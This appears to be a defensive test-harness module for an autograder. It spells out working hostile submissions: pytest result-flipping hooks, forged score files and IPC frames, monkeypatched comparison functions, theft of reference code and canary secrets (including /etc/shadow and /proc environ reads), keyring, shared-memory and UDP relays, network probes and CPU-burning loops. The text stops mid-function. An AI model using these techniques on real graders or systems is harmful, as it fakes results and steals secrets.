"""Hostile submissions: each one attack on the grader, written as a change of the reference.

Every attack of ``shared/design/security.md`` (and a few more) is a :class:`Hostile` spec: the
reference solution with the attacked function replaced, plus files, links or FIFOs planted in the
submission. ``tests/harness/test_attacks.py`` grades each one with the real grader and checks what
the spec promises:

- ``lost``: the tests that must score 0 (prefixes of ``TestResult.name``: ``"loss/"`` is the whole
  part, ``""`` every test); every other test must pass: the attack never earns more than the
  honest remainder of the submission (the rest of the package is the reference);
- ``statuses``: the statuses those tests may end with (``timeout`` for a loop, ``error`` for a
  worker that died, ``failed`` for an exception or a wrong value);
- ``says``: text that must appear in the submission message or the feedback of a lost test, in
  student terms ("did not finish within", "died", "SystemExit").

Attacks that only take time (loops, bombs, floods) fire on one call only, the one of
``nucleus/test_top_probability_above_alpha`` (:data:`NUCLEUS_TRIGGER`), so that the file runs in a
few minutes; elsewhere the function behaves honestly. Sources may hold placeholders that the
harness fills in for each run (:func:`write`): ``__REPO__`` (the project checkout, which the
attacker knows from the public grader), ``__CANARY_FILE__`` / ``__CANARY_TMP__`` (world-readable
secrets planted in the checkout and in the host's /tmp), ``__CANARY_ENV__`` (the name of a secret
environment variable of the grader), ``__MARKER__`` (a host path that only code running in the
grader's own process could write), ``__PORT__`` (a TCP and UDP port the harness listens on),
``__VICTIM__`` and ``__OUT__`` (another student's submission and the batch's output folder).

Attacks that succeeded against the grader before it was fixed (the harness now holds them off):
``trusted_source_relayed_by_keyring`` (kernel keyrings and System V IPC outlive a worker: the worker
now has no such calls, grader.sandbox.seccomp), ``trusted_source_relayed_by_udp`` (level "process": the
submission's other worker stayed alive beside the substitution's), ``reference_hunt_beside_stand_ins``
(the stand-ins' source was exec'd in the worker: now they ask the grader, grader.worker.standins, and
these three attacks find nothing to relay), ``kernel_by_computed_name`` and ``clip_helpers_of_nn_utils``
(100 points: grader.worker.serve now replaces every kernel and helper it can reach, and the static
scan lists the computed names for a TA),
``huge_forged_feedback`` (unbounded feedback in every record and report: grader.grading.scoring caps it),
``id_lists_longer_than_maxlen`` (minutes of trusted replay outside any time limit: the hidden tests
check the length first), ``oversized_package`` (an infrastructure error forever, never a grade) and
the archives ``corrupt_zip``, ``truncated_targz`` (an exception that stopped a whole class batch)
and ``crowded_zip`` (grader.grading.submission).
"""
from __future__ import annotations

import io
import os
import shutil
import tarfile
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from .build import Append, Spec, materialize

FAILED = ("failed",)
ANY_FAILURE = ("failed", "error", "timeout")
ONE_NUCLEUS_TEST = "nucleus/test_top_probability_above_alpha"


@dataclass(frozen=True)
class Hostile(Spec):
    """A :class:`Spec` with what the attack plants and what grading it must give (see the module)."""

    lost: tuple[str, ...] = ()
    statuses: tuple[str, ...] = ANY_FAILURE
    says: tuple[str, ...] = ()
    root_files: dict = field(default_factory=dict)  # path relative to the submission root -> text
    links: dict = field(default_factory=dict)  # path relative to the submission root -> link target
    fifos: tuple[str, ...] = ()  # paths relative to the submission root
    extra_loss: bool = False  # the attack may also cost the attacker tests outside ``lost``
    printed: tuple[str, ...] = ()  # text the worker's captured output must hold (the attack ran)
    review: tuple[str, ...] = ()  # text the record's ``review`` (for a TA) must hold


def write(spec: Hostile, dest: Path, subst: dict[str, str]) -> Path:
    """Materialize ``spec`` under ``dest`` with the placeholders of ``subst`` filled in."""

    def fill(text: str) -> str:
        for key, value in subst.items():
            text = text.replace(key, value)
        return text

    changes = tuple(Append(c.module, fill(c.code)) if isinstance(c, Append) else c for c in spec.changes)
    files = {name: None if text is None else fill(text) for name, text in spec.files.items()}
    plain = Spec(spec.name, changes, spec.parts, spec.names, spec.description, files)
    root = materialize(plain, dest)
    for rel, text in spec.root_files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(fill(text))
    for rel, target in spec.links.items():
        path = root / rel
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        elif path.exists() or path.is_symlink():
            path.unlink()
        path.symlink_to(fill(target))
    for rel in spec.fifos:
        os.mkfifo(root / rel)
    return root


# ---- building blocks ------------------------------------------------------------------------

# The reference's nucleus_probs, except on the call of nucleus/test_top_probability_above_alpha,
# where it runs ``_attack(logits)`` and returns what that returns (never the right answer).
NUCLEUS_TRIGGER = '''
_honest_nucleus_probs = nucleus_probs


def nucleus_probs(logits, alpha):
    if tuple(logits.shape) == (4,) and alpha == 0.5 and logits.dtype == torch.float64:  # test_top_probability_above_alpha
        return _attack(logits)
    return _honest_nucleus_probs(logits, alpha)
'''


def on_nucleus(name: str, attack: str, *, statuses=ANY_FAILURE, says=(), description="", lost=(ONE_NUCLEUS_TEST,),
               **kw):
    """An attack run from one call of ``nucleus_probs`` (``attack`` defines ``_attack(logits)``)."""
    return Hostile(name, (Append("generation.py", attack + "\n\n" + NUCLEUS_TRIGGER),), parts=("nucleus",),
                   description=description, lost=lost, statuses=statuses, says=says, **kw)


def on_loss(name: str, code: str, *, statuses=ANY_FAILURE, says=(), description="", lost=("loss/",), **kw):
    """An attack that replaces ``masked_cross_entropy`` (``code`` redefines it) and loses the loss part."""
    return Hostile(name, (Append("loss.py", code),), parts=("loss",), description=description, lost=lost,
                   statuses=statuses, says=says, **kw)


BROKEN_LOSS = '''
def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    raise NotImplementedError("masked_cross_entropy: not written yet")
'''

# What an injected file does if anything ever runs it: leave a trace the harness can see (a file
# only the grader's own process could create, a line in the worker's output), and flip results.
INJECTED = '''
import os as _os
import sys as _sys
try:
    with open("__MARKER__", "a") as _f:
        _f.write("{who} ran in pid %d\\n" % _os.getpid())
except OSError:
    pass
print("INJECTED {who} RAN", file=_sys.stderr)
'''
FLIP_HOOKS = '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
    call.excinfo = None


def pytest_collection_modifyitems(items):
    for item in items:
        item.add_marker(pytest.mark.points(1000))
'''


def injected(who: str, hooks: bool = False) -> str:
    return INJECTED.replace("{who}", who) + (FLIP_HOOKS if hooks else "")


PLUGIN_FILES = {
    "conftest.py": injected("conftest.py", hooks=True),
    "evil_plugin.py": injected("evil_plugin.py", hooks=True),
    "sitecustomize.py": injected("sitecustomize.py"),
    "usercustomize.py": injected("usercustomize.py"),
    "hostile.pth": "import os; open('__MARKER__', 'a').write('hostile.pth ran\\n')\n",
    "pytest.ini": "[pytest]\naddopts = -p evil_plugin -p assignment.evil_plugin -p conftest\n",
    "tox.ini": "[pytest]\naddopts = -p evil_plugin\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p evil_plugin\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = \"-p evil_plugin\"\n",
}


# ---- attacks on the results ----------------------------------------------------------------

GC_PYTEST = '''
import gc as _gc


class _Flip:
    def pytest_runtest_makereport(self, item, call):
        call.excinfo = None


def _hijack():
    """Find pytest's Config, the ScoringPlugin and any result object, and flip them to passed."""
    found = {}
    for o in _gc.get_objects():
        kind = type(o).__name__
        if not str(getattr(type(o), "__module__", "")).startswith(("_pytest", "pytest", "pluggy", "grader")):
            continue
        if kind not in ("Config", "PytestPluginManager", "ScoringPlugin", "Session", "TestResult",
                        "SubmissionResult", "TestReport", "CallInfo", "Student"):
            continue
        found[kind] = found.get(kind, 0) + 1
        try:
            if kind == "Config":
                o.pluginmanager.register(_Flip(), "hostile-flip")
            elif kind == "ScoringPlugin":
                for r in o.results:
                    r.status, r.score = "passed", r.max_score
            elif kind == "TestReport":
                o.outcome = "passed"
            elif kind == "CallInfo":
                o.excinfo = None
        except Exception:
            pass
    return found


_AT_IMPORT = _hijack()


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    raise RuntimeError(f"ATTACK gc_pytest: found at import {_AT_IMPORT}, now {_hijack()}")
'''

BASE_EXCEPTIONS = '''
import sys as _sys


class HostileBaseException(BaseException):
    pass


_RAISED = []


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    kinds = [SystemExit(0), KeyboardInterrupt("stop"), GeneratorExit(), HostileBaseException("x"),
             SystemExit("SCORE: 100/100")]
    _RAISED.append(1)
    if len(_RAISED) % 5 == 1:
        _sys.exit(0)
    raise kinds[(len(_RAISED) - 1) % len(kinds)]
'''

ATEXIT = '''
import atexit as _atexit
import json as _json
import os as _os
import signal as _signal
import sys as _sys
import threading as _threading
import weakref as _weakref

_FAKE = _json.dumps({"score": 100, "tests": [], "output": "all passed"})


def _rewrite(*_args):
    """Write full marks wherever a results file could be: argv, cwd, the usual autograder paths."""
    targets = ["results.json", "results.xml", "/tmp/results.json", "/autograder/results/results.json",
               "__OUT__/results.json", "__OUT__/record.json"]
    targets += [a for a in _sys.argv if a.endswith((".json", ".xml"))]
    for path in targets:
        try:
            with open(path, "w") as f:
                f.write(_FAKE)
        except OSError:
            pass


_atexit.register(_rewrite)
_weakref.finalize(_rewrite, _rewrite)
for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
    _signal.signal(_sig, _rewrite)
try:
    _threading._register_atexit(_rewrite)
except Exception:
    pass
''' + BROKEN_LOSS

MONKEYPATCH = '''
import math as _math

import numpy as _np
import numpy.testing as _npt
import torch.testing as _tt

torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
_tt.assert_close = lambda *a, **k: None
torch.testing.assert_close = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_npt.assert_allclose = lambda *a, **k: None
_npt.assert_array_equal = lambda *a, **k: None
_math.isclose = lambda *a, **k: True


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    return logits.sum() * 0 + 1.25  # the right shape, dtype and graph; the wrong value
'''

TENSOR_SUBCLASS = '''
class _Liar(torch.Tensor):
    """Says it equals anything, to ==, allclose, isclose and equal."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = torch.Tensor.__hash__

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "eq", "__eq__", "all"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    return (logits.sum() * 0 + 1.25).as_subclass(_Liar)
'''

ODD_OBJECTS = '''
import pickle as _pickle


class _AlwaysEqual(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


class _Payload:
    """Unpickling this would create the marker file in the process that unpickles it."""

    def __reduce__(self):
        return (open, ("__MARKER__", "w"))


_CALLS = []


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    _CALLS.append(1)
    return [_AlwaysEqual(0.0), _Payload(), _pickle.dumps(_Payload())][len(_CALLS) % 3]
'''

WRONG_DTYPE_NAN = '''
def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    return (logits.sum() * 0).half()


def nucleus_probs(logits, alpha):
    return torch.full_like(logits, float("nan"))
'''

FRAMES = '''
import sys as _sys


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    """Walk up the stack looking for the expected value (or anything like it) and return it."""
    seen, frame = [], _sys._getframe(1)
    while frame is not None:
        names = sorted(frame.f_locals)
        seen.append(f"{frame.f_code.co_name}({', '.join(names)[:120]})")
        for name in ("expected", "expected_logits", "ref", "reference", "solution", "want", "e_loss"):
            value = frame.f_locals.get(name)
            if isinstance(value, torch.Tensor) and value.dim() == 0:
                return value
        for value in frame.f_globals.values():
            if callable(value) and getattr(value, "__name__", "") in ("ref_loss", "masked_loss"):
                return value(logits, target, pad_ix)
        frame = frame.f_back
    raise RuntimeError("ATTACK frames: nothing found in " + " <- ".join(seen))
'''

# ---- attacks on the secrets ----------------------------------------------------------------

STEAL = '''
import glob as _glob
import importlib as _importlib
import importlib.util as _iu
import os as _os
import sys as _sys

_ROOTS = ["__REPO__", "/work/main", "/", "/app", "/autograder/source", "/proc/1/root__REPO__",
          "/proc/1/cwd", _os.getcwd(), _os.path.dirname(_os.getcwd())]
if "grader" in _sys.modules and getattr(_sys.modules["grader"], "__file__", None):
    _ROOTS.append(_os.path.dirname(_os.path.dirname(_sys.modules["grader"].__file__)))


def _reference():
    """The reference masked_cross_entropy, by import, by path, or by search; and what was tried."""
    tried = []
    for root in _ROOTS:
        _sys.path.insert(0, root)
        for name in [m for m in _sys.modules if m == "solution" or m.startswith("solution.")]:
            del _sys.modules[name]
        try:
            return _importlib.import_module("solution.loss").masked_cross_entropy, tried
        except Exception as exc:
            tried.append(f"import solution.loss from {root}: {type(exc).__name__}")
        finally:
            _sys.path.remove(root)
        path = _os.path.join(root, "solution", "loss.py")
        try:
            spec = _iu.spec_from_file_location("stolen_loss", path)
            module = _iu.module_from_spec(spec)
            source = open(path).read().replace("from .data import PAD_IX", "PAD_IX = 0")
            exec(compile(source, path, "exec"), module.__dict__)
            return module.masked_cross_entropy, tried
        except Exception as exc:
            tried.append(f"read {path}: {type(exc).__name__}")
    for pattern in ("/*/solution/loss.py", "/*/*/solution/loss.py", "/tmp/*/solution/loss.py"):
        tried.append(f"glob {pattern}: {_glob.glob(pattern)}")
    return None, tried


def _read_secrets():
    got = []
    for path in ("__CANARY_FILE__", "__CANARY_TMP__", "__REPO__/grader/grading/hidden/test_loss.py",
                 "__REPO__/grader/grading/trusted.py", "/etc/shadow", "/proc/1/root__CANARY_FILE__"):
        try:
            with open(path) as f:
                got.append(f"{path}: READ {f.read()[:300]!r}")
        except OSError as exc:
            got.append(f"{path}: {type(exc).__name__}")
    return got


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    reference, tried = _reference()
    if reference is not None:
        return reference(logits, target, pad_ix)
    secrets = _read_secrets()
    print("ATTACK steal", tried, secrets)
    raise RuntimeError("ATTACK steal: " + " | ".join(secrets + tried))
'''

SNOOP = '''
import os as _os


def _read(path, n=4000):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode(errors="replace")
    except OSError as exc:
        return type(exc).__name__


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    """Read every environment this process can see and look for the grader's token."""
    found = {"os.environ": dict(_os.environ), "getenv": _os.environ.get("__CANARY_ENV__")}
    pids = sorted(int(p) for p in _os.listdir("/proc") if p.isdigit())
    for pid in sorted(set(pids[:50] + [1, _os.getpid(), _os.getppid()])):
        for what in ("environ", "cmdline", "root/__CANARY_FILE__", "cwd/__CANARY_FILE__"):
            found[f"/proc/{pid}/{what}"] = _read(f"/proc/{pid}/{what}")
    for path in ("__CANARY_FILE__", "__CANARY_TMP__", "/proc/self/mountinfo"):
        found[path] = _read(path)
    text = repr(found)
    hits = [text[max(0, i - 60): i + 100] for i in range(len(text)) if text.startswith("ATTACKCANARY", i)]
    print("ATTACK snoop", text)  # the worker's captured output
    raise RuntimeError(f"ATTACK snoop: hits {hits} in {len(pids)} pids; " + text[:1500])
'''

# grader.grading.trusted's functions (masked_loss, clip, nucleus_probs), and anything else that could answer
# a graded question, looked for from inside graded functions, at import and at each call.
GC_TRUSTED_LOSS = '''
import gc as _gc
import sys as _sys
import types as _types

_WANTED = ("masked_loss", "nucleus_probs", "masked_cross_entropy", "clip", "grad_norm")


def _foreign(f):
    return (isinstance(f, _types.FunctionType) and f.__name__ in _WANTED  # numpy.clip is not one
            and not (f.__module__ or "").startswith(("assignment", "numpy", "torch"))
            and not f.__code__.co_filename.startswith("/submission"))


def _search():
    """Functions of grader.grading.trusted (or the solution) in this process, by sys.modules, gc or source text."""
    found = {}
    for name, module in list(_sys.modules.items()):
        for attr in _WANTED:
            f = getattr(module, attr, None)
            if _foreign(f):
                found.setdefault(attr, f)
    for o in _gc.get_objects():  # strings are not tracked by gc: look inside dicts and lists
        if _foreign(o):
            found.setdefault(o.__name__, o)
            continue
        values = o.values() if isinstance(o, dict) else o if isinstance(o, (list, tuple)) else ()
        for v in values:
            if isinstance(v, str) and "def masked_loss(" in v and "def nucleus_probs(" in v:
                ns = {}
                try:  # the source of grader.grading.trusted, if it is here (not a line of this file)
                    exec(compile(v, "stolen", "exec"), ns)
                except Exception:
                    continue
                if callable(ns.get("masked_loss")) and callable(ns.get("nucleus_probs")):
                    found.setdefault("masked_loss", ns["masked_loss"])
                    found.setdefault("nucleus_probs", ns["nucleus_probs"])
    return found


_AT_IMPORT = _search()


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    found = {**_AT_IMPORT, **_search()}
    for name in ("masked_loss", "masked_cross_entropy"):
        f = found.get(name)
        if f is not None and f is not masked_cross_entropy:
            return f(logits, target, pad_ix)
    modules = sorted(m for m in _sys.modules if m.startswith(("grader", "solution", "tests")))
    raise RuntimeError(f"ATTACK gc_trusted: found {sorted(found)}; grader modules here: {modules}")
'''
GC_TRUSTED_NUCLEUS = GC_TRUSTED_LOSS.split("_AT_IMPORT = _search()")[0] + '''
_AT_IMPORT = _search()


def nucleus_probs(logits, alpha):
    found = {**_AT_IMPORT, **_search()}
    f = found.get("nucleus_probs")
    if f is not None and f is not nucleus_probs:
        return f(logits, alpha)
    raise RuntimeError(f"ATTACK gc_trusted: found {sorted(found)}")
'''

# (Before grader.worker.standins) the trusted nucleus_probs travelled as source to the worker of
# beam/test_nucleus_candidates. Keep it past that worker: in the kernel's keyrings (which no namespace separates) and in System V
# shared memory (level "process" shares the host's IPC namespace), then take it back in the next
# worker, which answers the nucleus tests. The beam test just before the substitution kills its own
# worker, so that the substitution's worker runs on the same slot (uid) as the next one.
RELAY_COMMON = '''
import ctypes as _ct
import gc as _gc
import os as _os
import platform as _platform
import sys as _sys

_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
_NR = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(_platform.machine(), (-1, -1))
_DESC, _SHM_KEY = b"hostile-trusted", 0x484F5354


def _trusted_source():
    frame = _sys._getframe()
    while frame is not None:  # grader.worker._apply_patches(patches, targets, source) imports us
        source = frame.f_locals.get("source")
        if isinstance(source, str) and "def nucleus_probs(" in source:
            return source
        frame = frame.f_back
    for o in _gc.get_objects():
        if isinstance(o, dict) and isinstance(o.get("trusted_source"), str):
            return o["trusted_source"]
    return None


def _keep(data):
    for ring in (-4, -5, -3):  # user, user-session and session keyrings
        _libc.syscall(_NR[0], b"user", _DESC, data, _ct.c_size_t(len(data)), _ct.c_long(ring))
    shm = _libc.shmget(_SHM_KEY, 1 << 16, 0o1666)
    if shm >= 0:
        addr = _libc.shmat(shm, None, 0)
        if addr not in (None, _ct.c_void_p(-1).value):
            _ct.memmove(addr, data + b"\\0", len(data) + 1)


def _take():
    for ring in (-4, -5, -3):
        key = _libc.syscall(_NR[1], _ct.c_long(10), _ct.c_long(ring), b"user", _DESC, _ct.c_long(0))
        if key > 0:
            buf = _ct.create_string_buffer(1 << 16)
            n = _libc.syscall(_NR[1], _ct.c_long(11), _ct.c_long(key), buf, _ct.c_long(1 << 16))
            if n > 0:
                return buf.raw[:n]
    shm = _libc.shmget(_SHM_KEY, 0, 0)
    if shm >= 0:
        addr = _libc.shmat(shm, None, 0)
        if addr not in (None, _ct.c_void_p(-1).value) and _ct.string_at(addr):
            return _ct.string_at(addr)
    return None


def _load(data):
    ns = {}
    exec(compile(data.decode(), "stolen", "exec"), ns)
    return ns["nucleus_probs"]
'''
RELAY_KEYRING = RELAY_COMMON + '''
_found = _trusted_source()
if _found:
    _keep(_found.encode())
_data = _take()
_stolen = _load(_data) if _data else None


def nucleus_probs(logits, alpha):
    if _stolen is not None:
        return _stolen(logits, alpha)
    raise NotImplementedError("nucleus_probs: not written yet")


_honest_generate_beam = generate_beam


def generate_beam(model, k, start="", maxlen=200, **kwargs):
    if start == "so far" and _stolen is None:
        _os._exit(0)
    return _honest_generate_beam(model, k, start, maxlen, **kwargs)
'''

# Level "process": the worker of the substitution sends the trusted source over UDP (which Landlock
# does not fence) to the submission's other worker, kept alive meanwhile, which listens from import.
RELAY_UDP = '''
import gc as _gc
import socket as _socket
import sys as _sys
import threading as _threading

_stolen = []


def _trusted_source():
    frame = _sys._getframe()
    while frame is not None:
        source = frame.f_locals.get("source")
        if isinstance(source, str) and "def nucleus_probs(" in source:
            return source
        frame = frame.f_back
    return None


def _listen():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    try:
        s.bind(("127.0.0.1", __PORT__ + 1))
    except OSError:
        return
    while not _stolen:
        data = s.recv(1 << 16)
        ns = {}
        exec(compile(data.decode(), "stolen", "exec"), ns)
        _stolen.append(ns["nucleus_probs"])


_found = _trusted_source()
if _found:
    for _ in range(20):
        _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(_found.encode(), ("127.0.0.1", __PORT__ + 1))
else:
    _threading.Thread(target=_listen, daemon=True).start()


def nucleus_probs(logits, alpha):
    if _stolen:
        return _stolen[0](logits, alpha)
    raise NotImplementedError("nucleus_probs: not written yet")
'''

# The grader's stand-ins in place (train_step with the grader's loss and clipping; beam search with
# its nucleus_probs): after the honest call, look for reference code everywhere in the process (the
# frames, every module of ours in sys.modules, gc, linecache) and put the source of every function
# found, and every string that looks like code, into the feedback. It finds the stand-ins
# (grader.worker.standins: they hold no reference logic) and must find nothing of grader.grading.trusted.
REFERENCE_HUNT = '''
import gc as _gc
import inspect as _inspect
import linecache as _linecache
import sys as _sys
import types as _types


_LIBRARIES = ("/submission", "<", _sys.base_prefix, _sys.prefix)  # ours, and Python's and torch's own code


def _hunt():
    found, seen = {}, set()

    def take(f):
        code = getattr(f, "__code__", None)
        if not isinstance(code, _types.CodeType) or id(code) in seen or code.co_filename.startswith(_LIBRARIES):
            return
        seen.add(id(code))
        try:
            found[f"{code.co_filename}:{f.__qualname__}"] = _inspect.getsource(f)
        except (OSError, TypeError):
            found[f"{code.co_filename}:{f.__qualname__}"] = "<no source>"

    def walk(value):
        if isinstance(value, (_types.FunctionType, _types.MethodType)):
            take(getattr(value, "__func__", value))
        elif isinstance(value, type):
            for member in list(vars(value).values()):
                if isinstance(member, (_types.FunctionType, staticmethod, classmethod)):
                    take(getattr(member, "__func__", member))

    frame = _sys._getframe()
    while frame is not None:
        for value in list(frame.f_globals.values()) + list(frame.f_locals.values()):
            walk(value)
        frame = frame.f_back
    for name, module in list(_sys.modules.items()):
        if name.split(".")[0] in ("grader", "solution", "tests", "assignment", "grader_trusted"):
            for value in list(vars(module).values()):
                walk(value)
    for o in _gc.get_objects():
        if isinstance(o, _types.FunctionType):
            take(o)
        elif isinstance(o, dict):
            for value in list(o.values()):
                if isinstance(value, str) and len(value) > 40 and ("def " in value or "cumsum" in value):
                    found.setdefault(f"string {len(found)}", value[:2000])
    for filename, entry in list(_linecache.cache.items()):
        if not filename.startswith("/submission") and len(entry) > 2:
            found[f"linecache {filename}"] = "".join(entry[2])[:2000]
    return found


_MARKERS = ("cumsum", "F.cross_entropy", "1e-6", "clamp(min=1)", "vector_norm")  # of reference logic


def _own_source():
    import glob
    text = ""
    for path in glob.glob("/submission/assignment/*.py"):
        with open(path) as f:
            text += f.read()
    return text


def _is_code(text):
    import textwrap
    try:
        compile(textwrap.dedent(text), "found", "exec")
        return True
    except (SyntaxError, ValueError):  # prose: a library's docstring
        return False


def _report(where):
    found, own = _hunt(), _own_source()
    names = sorted(found, key=lambda k: ("standins" not in k, k))
    suspicious = [f"== {k}\\n{v}" for k, v in sorted(found.items())
                  if any(m in v for m in _MARKERS) and v not in own and _is_code(v)]
    print("ATTACK reference", where, names[:40], flush=True)  # the log is capped: the sources go to the feedback
    raise RuntimeError(f"ATTACK reference: {len(suspicious)} suspicious\\n" + "\\n".join(suspicious)[:1500]
                       + f"\\nfound {names}")
'''
HUNT_IN_TRAINING = REFERENCE_HUNT + '''

_honest_train_step = train_step


def train_step(model, batch, optimizer, max_norm=None):
    _honest_train_step(model, batch, optimizer, max_norm)
    _report("train_step")
'''
HUNT_IN_BEAM = REFERENCE_HUNT + '''

_honest_generate_beam = generate_beam


def generate_beam(model, k, start="", maxlen=200, **kwargs):
    result = _honest_generate_beam(model, k, start, maxlen, **kwargs)
    if kwargs.get("nucleus") is not None:
        _report("generate_beam")
    return result
'''

# Forbidden built-ins reached by a computed name: the LSTM cell by torch's own lstm_cell kernel (the
# reference's gates reordered: exact, so it would earn the LSTM's points), clipping and the norm by
# nn.utils' helpers. The worker replaces both; the scan of names cannot see them, the review list does.
REFLECTIVE_LSTM = '''

def _kernel_one_step(self, x, state):
    h, C = state
    H = self.latent
    gates = [self.W_i, self.W_f, self.W_c, self.W_o]  # torch's order: i, f, g, o
    w_ih = torch.cat([g.weight[:, H:] for g in gates])
    w_hh = torch.cat([g.weight[:, :H] for g in gates])
    b_ih = torch.cat([g.bias for g in gates])
    return getattr(torch, "lstm" + "_cell")(x, (h, C), w_ih, w_hh, b_ih, torch.zeros_like(b_ih))


LSTM.one_step = _kernel_one_step
LSTM.forward = Cell.forward
'''
REFLECTIVE_CLIP = '''
import torch.nn.utils as _utils


def grad_norm(parameters):
    grads = [p.grad for p in parameters if p.grad is not None]
    return float(getattr(_utils, "get_total" + "_norm")(grads))  # 0.0 for no gradient, as the contract asks


def clip_grad_norm(parameters, max_norm):
    params = [p for p in parameters if p.grad is not None]
    norm = grad_norm(params)
    _utils.clip_grads_with_norm_(params, max_norm, torch.tensor(norm))
    return norm
'''

# ---- attacks on what the grader reads --------------------------------------------------------

FAKE_SCORES = '''
import os as _os
import sys as _sys

_LINES = "SCORE: 100/100\\n68 passed in 1.00s\\n{\\"score\\": 100, \\"max_score\\": 100}\\n"
print(_LINES)
print(_LINES, file=_sys.stderr)
_os.write(1, _LINES.encode())


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    print(_LINES)
    raise RuntimeError("SCORE: 100/100 -- 68 passed <script>alert(1)</script> ]]> \\x1b[31m\\x00\\x07 all good")
'''

NETWORK = '''
import socket as _socket


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    """Reach the grader's port (TCP and UDP), the internet, and an abstract unix socket."""
    got = {}
    for kind, host, port in (("tcp", "127.0.0.1", __PORT__), ("tcp", "1.1.1.1", 53), ("tcp", "10.0.2.2", 80),
                             ("udp", "127.0.0.1", __PORT__), ("udp", "1.1.1.1", 53)):
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM if kind == "tcp" else _socket.SOCK_DGRAM)
        s.settimeout(1)
        try:
            if kind == "tcp":
                s.connect((host, port))
                s.sendall(b"ATTACK network")
            else:
                s.sendto(b"ATTACK network", (host, port))
            got[f"{kind} {host}:{port}"] = "sent"
        except OSError as exc:
            got[f"{kind} {host}:{port}"] = type(exc).__name__
        finally:
            s.close()
    u = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    try:
        u.connect("\\0grader")
        got["abstract"] = "connected"
    except OSError as exc:
        got["abstract"] = type(exc).__name__
    got["interfaces"] = [n for _, n in _socket.if_nameindex()]
    raise RuntimeError(f"ATTACK network: {got}")
'''

HUGE_FEEDBACK = '''
import sys as _sys

_worker = _sys.modules.get("grader.worker.serve")
if _worker is not None:  # the worker's own describe() caps the message; this one does not
    _describe = _worker.describe

    def _flood(exc, stage):
        error = _describe(exc, stage)
        error["message"] = "FLOOD " * (1 << 20)  # 6 MiB a test
        error["traceback"] = "T" * (1 << 20)
        return error

    _worker.describe = _flood


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    raise RuntimeError("masked_cross_entropy: not written yet")
'''

FORGED_FRAMES = '''
import json as _json
import struct as _struct
import os as _os


def _frame(answer):
    head = _json.dumps(answer).encode()
    message = _struct.pack("<I", len(head)) + head
    return _struct.pack("<Q", len(message)) + message


def masked_cross_entropy(logits, target, pad_ix=PAD_IX):
    """Answer on the channel (fd 3) before the worker does: a forged 'ok' answer, then one more."""
    _os.write(3, _frame({"ok": True, "values": [0.0], "arg_grads": [[None]], "after": [[None, None]]}))
    _os.write(3, _frame({"ok": True, "values": [{"__tuple__": [1.5, 1.5]}], "after": [[{"state_dict": {}}]]}))
    return logits.sum() * 0
'''

# generate (sampling with a nucleus) and generate_beam (with a nucleus) return id lists far longer
# than maxlen, each id inside the nucleus (the argmax chain of the scripted table): the grader used
# to replay every id (about 0.1 ms each), outside any time limit, for ids that cost the worker nothing.
LONG_IDS = '''
_honest_generate = generate
_honest_generate_beam = generate_beam
_LONG = 100_000


def _chain(model, n):
    nxt = model.table[0].argmax(-1).tolist()  # the argmax is always in the nucleus
    ids, cur = [], EOS_IX
    for _ in range(n):
        cur = nxt[cur]
        ids.append(cur)
    return ids


def generate(model, start="", maxlen=200, **kwargs):
    if kwargs.get("nucleus") is not None and kwargs.get("temperature", 1.0) == 1.0 and start == "":
        return _chain(model, _LONG)
    return _honest_generate(model, start, maxlen, **kwargs)


def generate_beam(model, k, start="", maxlen=200, **kwargs):
    if kwargs.get("nucleus") is not None:
        return [(_chain(model, _LONG), -1.0)]
    return _honest_generate_beam(model, k, start, maxlen, **kwargs)
'''

# ---- attacks on time, processes, memory, disk and output (one call each) ----------------------

LOOP = '''
import signal as _signal


def _attack(logits):
    for sig in (_signal.SIGALRM, _signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGXCPU):
        _signal.signal(sig, _signal.SIG_IGN)
    _signal.setitimer(_signal.ITIMER_REAL, 0)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
'''

DAEMON = '''
import glob as _glob
import os as _os
import time as _time


def _tamper():
    """Outlive the worker and spoil whatever is graded next: its files, its folder, its processes."""
    for _ in range(600):
